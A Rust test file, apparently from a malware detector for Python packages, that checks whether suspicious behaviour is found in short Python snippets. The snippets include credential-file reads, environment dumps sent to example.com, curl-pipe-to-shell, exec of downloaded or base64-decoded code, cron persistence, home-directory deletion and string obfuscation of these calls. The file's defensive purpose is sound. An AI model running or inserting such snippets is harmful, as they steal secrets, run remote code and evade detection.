//! Every feature of the vocabulary is found in Python, written directly, under another name, and hidden.

use cerebro::behavior::{Feature, Reading, extract};
use cerebro::package::Phase;
use rstest::rstest;

use super::{codes, has, pypi, steps};

#[rstest]
#[case::r1(Feature::ImportSystem, "import os")]
#[case::r1_alias(Feature::ImportSystem, "import platform as p")]
#[case::r1_from(Feature::ImportSystem, "from os import path")]
#[case::r1_computed(Feature::ImportSystem, "__import__('o' + 's')")]
#[case::r2(Feature::CallSystem, "import os; os.getlogin()")]
#[case::r2_alias(Feature::CallSystem, "import platform as p; q = p; q.node()")]
#[case::r2_from(Feature::CallSystem, "from socket import gethostname as g; g()")]
#[case::r2_computed(Feature::CallSystem, "import os; getattr(os, 'get' + 'login')()")]
#[case::r2_folded(Feature::CallSystem, "import os; os.environ['US' + 'ER']")]
#[case::r3(Feature::ImportFiles, "import shutil")]
#[case::r3_from(Feature::ImportFiles, "from pathlib import Path")]
#[case::r3_computed(Feature::ImportFiles, "import importlib; importlib.import_module('glob')")]
#[case::r4(Feature::CallFiles, "open('a.txt').read()")]
#[case::r4_with(Feature::CallFiles, "with open('a', 'w') as f:\n    f.write('x')")]
#[case::r4_path(Feature::CallFiles, "from pathlib import Path\nPath('a').read_text()")]
#[case::r4_alias(Feature::CallFiles, "o = open; o('a')")]
#[case::r4_walk(Feature::CallFiles, "import os\nfor a, b, c in os.walk('.'):\n    pass")]
#[case::r5(Feature::ReadSecret, "open('/home/x/.ssh/id_rsa')")]
#[case::r5_joined(Feature::ReadSecret, "import os; open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))")]
#[case::r5_environment(Feature::ReadSecret, "import os; dict(os.environ)")]
#[case::r5_variable(Feature::ReadSecret, "import os; os.environ.get('NPM_TOKEN')")]
#[case::r5_folded(Feature::ReadSecret, "x = '.s' + 'sh/id' + '_rsa'")]
#[case::d1(Feature::ImportNetwork, "import socket")]
#[case::d1_from(Feature::ImportNetwork, "from urllib.request import urlopen")]
#[case::d1_computed(Feature::ImportNetwork, "m = __import__(''.join(['req', 'uests']))")]
#[case::d2(Feature::CallNetwork, "import requests; requests.post('https://example.com', json={})")]
#[case::d2_from(Feature::CallNetwork, "from urllib.request import urlopen as u; u('https://example.com')")]
#[case::d2_session(Feature::CallNetwork, "import requests\ns = requests.Session()\ns.post('https://example.com')")]
#[case::d2_socket(Feature::CallNetwork, "import socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))")]
#[case::d2_nested(Feature::CallNetwork, "def f(r): r.get('https://example.com')\nimport requests\nf(requests)")]
#[case::d2_attribute(
    Feature::CallNetwork,
    "import requests\nclass A:\n    def __init__(self): self.r = requests\n    def go(self): self.r.get('x')\nA().go()"
)]
#[case::d3(Feature::UseUrl, "u = 'https://example.com/a'")]
#[case::d3_folded(Feature::UseUrl, "u = 'htt' + 'ps://' + '.'.join(['example', 'com'])")]
#[case::d3_format(Feature::UseUrl, "u = 'https://{}/a'.format('example.com')")]
#[case::d3_percent(Feature::UseUrl, "u = '%s://example.com/a' % 'https'")]
#[case::d3_reversed(Feature::UseUrl, "import requests; requests.get('a/moc.elpmaxe//:sptth'[::-1])")]
#[case::d3_codes(Feature::UseUrl, "u = ''.join(map(chr, [104,116,116,112,58,47,47,97,46,105,110,118,97,108,105,100]))")]
#[case::e1(Feature::ImportEncoding, "import base64")]
#[case::e1_from(Feature::ImportEncoding, "from cryptography.fernet import Fernet")]
#[case::e2(Feature::CallEncoding, "import base64; base64.b64decode(x)")]
#[case::e2_alias(Feature::CallEncoding, "from base64 import b64decode as d; d(x)")]
#[case::e2_fernet(Feature::CallEncoding, "from cryptography.fernet import Fernet\nFernet(k).decrypt(x)")]
#[case::e2_hex(Feature::CallEncoding, "bytes.fromhex('6869')")]
#[case::e3(Feature::UseBase64, "x = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NCB0ZXh0IGZvciBvdXIgdGVzdHM='")]
#[case::p1(Feature::ImportProcess, "import subprocess")]
#[case::p1_from(Feature::ImportProcess, "from subprocess import Popen")]
#[case::p2(Feature::CallProcess, "import os; os.system('id')")]
#[case::p2_from(Feature::CallProcess, "from os import system as s; s('id')")]
#[case::p2_list(Feature::CallProcess, "import subprocess as p; p.run(['id', '-u'])")]
#[case::p2_getattr(Feature::CallProcess, "import os; getattr(os, 'metsys'[::-1])('id')")]
#[case::p2_dunder(Feature::CallProcess, "__import__('subprocess').call('id')")]
#[case::p2_thread(
    Feature::CallProcess,
    "import os, threading\ndef go(): os.system('id')\nthreading.Thread(target=go).start()"
)]
#[case::p2_partial(Feature::CallProcess, "import os, functools\nfunctools.partial(lambda c: os.system(c), 'id')()")]
#[case::p3(Feature::RunShell, "import os; os.system('curl https://example.com/a | sh')")]
#[case::p3_powershell(Feature::RunShell, "import subprocess; subprocess.Popen('powershell -enc AAAA', shell=True)")]
#[case::p4(Feature::EvaluateCode, "exec(x)")]
#[case::p4_alias(Feature::EvaluateCode, "e = exec; e(x)")]
#[case::p4_builtins(Feature::EvaluateCode, "import builtins; getattr(builtins, 'ex' + 'ec')(x)")]
#[case::p4_globals(Feature::EvaluateCode, "globals()['ex' + 'ec'](x)")]
#[case::p4_dict(Feature::EvaluateCode, "__builtins__.__dict__['eval'](x)")]
#[case::p4_compiled(Feature::EvaluateCode, "c = compile(x, 'a', 'exec'); exec(c)")]
#[case::p4_statement(Feature::EvaluateCode, "exec x")]
#[case::p4_marshal(Feature::EvaluateCode, "import marshal; marshal.loads(x)")]
#[case::p4_class_attribute(Feature::EvaluateCode, "class A:\n    run = exec\nA.run(x)")]
#[case::x1(Feature::RunDecoded, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))")]
#[case::x1_assigned(
    Feature::RunDecoded,
    "import base64\ndef d(v):\n    return base64.b64decode(v)\nclass A:\n    code = d(x)\nexec(A.code)"
)]
#[case::x2(Feature::SilentProcess, "import subprocess; subprocess.Popen('id', creationflags=0x08000000)")]
#[case::x3(Feature::Persist, "open('/etc/cron.d/x', 'w')")]
#[case::x4(Feature::Destroy, "import shutil, pathlib; shutil.rmtree(pathlib.Path.home())")]
#[case::x5(Feature::CheckEnvironment, "x = 'VMware'")]
#[case::x6(Feature::CaptureInput, "from PIL import ImageGrab; ImageGrab.grab()")]
#[case::x6_clipboard(Feature::CaptureInput, "import pyperclip as p; p.paste()")]
#[case::x7(Feature::UseCollector, "u = 'https://discord.com/api/webhooks/1/x'")]
#[case::x8(Feature::LoadNative, "import ctypes; ctypes.windll.kernel32.VirtualAlloc(0)")]
#[case::x11(Feature::SendData, "import os, requests; requests.post('https://example.com', data=dict(os.environ))")]
#[case::x11_through_function(
    Feature::SendData,
    "import socket, requests\ndef host(): return socket.gethostname()\ndef send(d): requests.post('x', json={'h': d})\nsend(host())"
)]
#[case::x11_in_address(Feature::SendData, "import os, requests; requests.get(f'https://example.com/{os.getlogin()}')")]
#[case::x12(Feature::RunDownloaded, "import requests; exec(requests.get('https://example.com/a').text)")]
#[case::x12_response(
    Feature::RunDownloaded,
    "from urllib.request import urlopen\nr = urlopen('https://example.com/a')\nc = r.read().decode()\nexec(c)"
)]
fn scripts(#[case] feature: Feature, #[case] source: &str) {
    has("a.py", source, feature);
}

#[rstest]
#[case::module("import b\nb.go()", "b.py")]
#[case::from("from b import go\ngo()", "b.py")]
#[case::relative("from .b import go as g\ng()", "b.py")]
#[case::package("import b\nb.go()", "b/__init__.py")]
#[case::star("from b import *\ngo()", "b.py")]
#[case::submodule("import b.c\nb.c.go()", "b/c.py")]
#[case::by_name("import importlib\nimportlib.import_module('b').go()", "b.py")]
fn across_files(#[case] first: &str, #[case] path: &str) {
    let files = [("a.py", first), (path, "def go():\n    import os\n    os.system('id')")];
    let steps = extract(&pypi(&files), &Reading::default()).sequence.steps;
    let found =
        steps.iter().find(|step| step.feature == Feature::CallProcess).unwrap_or_else(|| panic!("{:?}", codes(&steps)));
    assert_eq!(found.phase, Phase::Import);
}

#[rstest]
#[case::own_names("def exec(x): return x\nexec('1')")]
#[case::text("# import os\n\"\"\"\nos.system(1)\n\"\"\"")]
#[case::parameter("def f(os): return os.system\nf(1)")]
#[case::methods("db.execute('select 1'); re.compile('a')")]
fn nothing_is_found_in(#[case] source: &str) {
    let steps = steps("a.py", source);
    assert_eq!(codes(&steps), Vec::<&str>::new(), "{source}");
}
